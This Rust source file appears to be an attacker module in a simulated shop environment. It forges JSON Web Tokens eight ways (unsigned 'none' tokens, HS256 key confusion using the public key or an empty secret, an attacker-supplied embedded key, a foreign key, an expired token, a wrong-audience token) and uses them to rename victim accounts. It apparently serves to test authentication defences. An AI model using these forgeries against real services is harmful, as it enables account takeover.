//! Tokens that nobody issued: unsigned, signed with the public key as a secret, with a key they bring along, with another
//! key; and tokens that were issued, for others or long ago.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use http::Method;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::json;

use super::{Attacker, CLIENT};
use crate::data::customer;
use crate::idp::{Idp, message, now};

/// Customers whose names are to be changed; none of them shops.
const VICTIMS: std::ops::Range<usize> = 50..58;

pub(crate) async fn run(mut attacker: Attacker) {
    let real = attacker.shop.idp.clone();
    let Ok(own) = Idp::new(real.issuer.clone(), "shop-1") else { return };
    let mut client = attacker.client(2, "jwt_tool/2.3");
    for round in 0.. {
        for (victim, forge) in VICTIMS.zip(FORGERIES) {
            if attacker.pause(120).await {
                return;
            }
            client.token(&forge(&real, &own, &customer(victim).0));
            let change = json!({ "name": format!("forged {round}") }).to_string();
            attacker.send(&mut client, Method::PATCH, "/accounts/me", change).await;
        }
    }
}

type Forgery = fn(&Idp, &Idp, &str) -> String;

const FORGERIES: [Forgery; 8] = [
    // Unsigned (CVE-2015-9235 and its kin).
    |real, _, victim| {
        format!("{}.", message(&json!({ "alg": "none", "typ": "JWT" }), &real.claims(victim, CLIENT)))
    },
    |real, _, victim| {
        format!("{}.AA", message(&json!({ "alg": "nOnE", "typ": "JWT" }), &real.claims(victim, CLIENT)))
    },
    // The public key, which everybody has, as the secret of an HMAC (key confusion).
    |real, _, victim| symmetric(real, victim, real.public.to_string().as_bytes()),
    |real, _, victim| symmetric(real, victim, b""),
    // A key the token brings along.
    |real, own, victim| {
        let header = json!({ "alg": "ES256", "typ": "JWT", "jwk": own.public });
        own.sign(&header, &real.claims(victim, CLIENT))
    },
    // Another key under the right name.
    |real, own, victim| own.sign(&real.header(), &real.claims(victim, CLIENT)),
    // Issued, long ago.
    |real, _, victim| {
        let mut claims = real.claims(victim, CLIENT);
        claims["exp"] = json!(now() - 86_400);
        real.sign(&real.header(), &claims)
    },
    // Issued, for another service.
    |real, _, victim| {
        let mut claims = real.claims(victim, CLIENT);
        claims["aud"] = json!("newsletter");
        real.sign(&real.header(), &claims)
    },
];

fn symmetric(real: &Idp, victim: &str, secret: &[u8]) -> String {
    let header = json!({ "alg": "HS256", "typ": "JWT", "kid": real.public["kid"] });
    let message = message(&header, &real.claims(victim, CLIENT));
    let signature =
        jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256);
    format!("{message}.{}", signature.unwrap_or_else(|_| URL_SAFE_NO_PAD.encode([0; 32])))
}
